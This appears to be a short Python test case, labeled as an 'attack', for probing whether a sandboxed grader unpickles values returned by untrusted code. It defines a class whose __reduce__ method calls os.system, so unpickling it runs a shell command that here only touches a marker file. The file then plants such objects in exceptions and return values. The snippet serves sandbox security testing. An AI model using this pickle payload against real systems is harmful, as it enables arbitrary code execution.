# /// attack
# title = "pickles as return values"
# earned = [0, 0]
# ///
# %% 99.1
import os
import pickle


class Bomb:
    def __reduce__(self):
        return os.system, (f"touch {OUTSIDE}/unpickled",)


class Squares:
    def __init__(self, n):
        pass

    def __len__(self):
        raise ValueError(Bomb())

    def __getitem__(self, i):
        if i > 3:
            raise IndexError("end", Bomb())
        return Bomb()


# %% 99.2
def total(dataset):
    return pickle.dumps(Bomb())
